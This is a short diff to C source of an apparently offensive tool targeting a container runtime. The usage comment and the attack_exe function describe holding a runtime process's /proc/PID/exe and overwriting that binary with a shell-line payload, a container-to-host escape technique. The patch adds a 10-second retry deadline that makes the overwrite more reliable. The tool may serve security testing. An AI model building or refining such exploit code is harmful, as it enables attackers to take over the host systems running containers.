@@ -7,10 +7,10 @@
  *                           HOLD a FIFO: whoever runs PATH runs INTERP, and a
  *                           runtime binary run so blocks opening its log.
  *   exe INTERP HOLD SECS PAYLOAD
- *                           wait for a process started through the trap, hold
- *                           its /proc/PID/exe (and every fd it has open that is
- *                           the same file), let it go, then try for SECS
- *                           seconds to open the held file for writing and put
+ *                           wait up to SECS for a process started through the
+ *                           trap, hold its /proc/PID/exe (and every fd it has
+ *                           open that is the same file), let it go, then try
+ *                           for 10 s to open the held file for writing and put
  *                           PAYLOAD (a shell line) in it.
  *   setup COMM SECS         wait up to SECS for the next process named COMM (a runtime
  *                           process still setting up) and try to open its
@@ -171,6 +171,7 @@ static int attack_exe(const char* interp, const char* hold, int secs, const char
             close(fd);
     }
     release(hold);
+    deadline = now() + 10; /* the file is busy until every runtime process running it has gone */
     int rc = overwrite(exe, "exe", deadline, payload);
     if (held_fd >= 0)
         rc |= overwrite(held_fd, "fd", deadline, payload);
